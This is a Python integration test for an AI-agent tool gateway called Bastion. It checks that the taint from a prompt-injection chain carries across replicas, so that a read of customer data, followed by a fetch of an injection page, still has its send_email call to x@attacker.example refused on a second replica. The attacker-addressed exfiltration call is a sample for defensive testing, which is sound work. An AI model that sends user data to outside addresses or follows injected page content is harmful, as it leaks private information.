"""Taint lives in the shared state store: a session that moves to another replica (Redis, sealed session ids)
keeps it, so the chain started on one replica is refused on the other."""

from __future__ import annotations

import contextlib
import json
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from bastion.app.runtime import build_runtime
from bastion.config import parse_config
from bastion.server.app import create_app
from bastion.state.redis_store import RedisStateStore
from tests.policy.flow_harness import CUSTOMER_EMAIL, EXFILTRATION_RULE, flow_config, injection_page
from tests.server.conftest import body, initialize, post_headers, request, serve, sse_events

pytestmark = [pytest.mark.anyio, pytest.mark.integration]

REDIS_URL = "redis://127.0.0.1:6379/0"


@contextlib.asynccontextmanager
async def replica(document: dict[str, Any]) -> AsyncIterator[str]:
    """One Bastion replica over HTTP; yields its MCP endpoint."""
    runtime = build_runtime(parse_config(document))
    async with serve(create_app(runtime.gateway)) as url:
        yield f"{url}/mcp"


async def call(http: httpx.AsyncClient, url: str, sid: str, rid: int, tool: str, args: dict[str, Any]) -> Any:
    response = await http.post(
        url,
        content=body(request(rid, "tools/call", {"name": tool, "arguments": args})),
        headers=post_headers(sid, "2025-11-25"),
        timeout=60,
    )
    assert response.status_code == 200, response.text
    if response.headers["content-type"].startswith("text/event-stream"):
        return json.loads(sse_events(response.text)[-1]["data"])
    return response.json()


def refusal(reply: dict[str, Any]) -> dict[str, Any]:
    """Who refused a tools/call answered as an `isError` result (refusals: result, the default)."""
    assert reply["result"]["isError"] is True
    return reply["result"]["_meta"]["dev.bastion/refusal"]


async def test_taint_recorded_on_one_replica_refuses_the_egress_on_the_other(tmp_path: Path):
    prefix = f"bastion-flow-{uuid.uuid4().hex}:"
    document = flow_config(
        tmp_path,
        {
            "labels": [{"servers": ["mail"], "tools": ["send_email"], "labels": ["egress"]}],
            "rules": [EXFILTRATION_RULE],
        },
        state={"backend": "redis", "url": REDIS_URL, "key_prefix": prefix},
        cluster={"session_secret": "shared-by-every-replica-0123456789"},
    )
    try:
        with injection_page() as page:
            async with replica(document) as first, replica(document) as second, httpx.AsyncClient() as http:
                sid = await initialize(http, first)
                env = await call(http, first, sid, 1, "everything__get-env", {})
                assert CUSTOMER_EMAIL in json.dumps(env["result"])
                await call(http, first, sid, 2, "fetch__fetch", {"url": page, "raw": True})
                refused = await call(
                    http,
                    second,
                    sid,
                    3,
                    "mail__send_email",
                    {"to": "x@attacker.example", "subject": "s", "body": "b"},
                )
                assert refusal(refused)["rule"] == "no-exfiltration"
                assert [m["tool"] for m in refusal(refused)["chain"]] == [
                    "everything__get-env",
                    "fetch__fetch",
                ]
                leaked = await call(http, second, sid, 4, "everything__echo", {"message": CUSTOMER_EMAIL})
                assert refusal(leaked)["rule"] == "data-rule"
                other = await initialize(http, second)
                fresh = await call(http, second, other, 5, "everything__echo", {"message": CUSTOMER_EMAIL})
                assert "error" not in fresh and not fresh["result"].get("isError")
    finally:
        async with RedisStateStore(REDIS_URL, key_prefix=prefix) as store:
            keys = [k async for k in store._redis.scan_iter(match=f"{prefix}*")]
            if keys:
                await store._redis.delete(*keys)
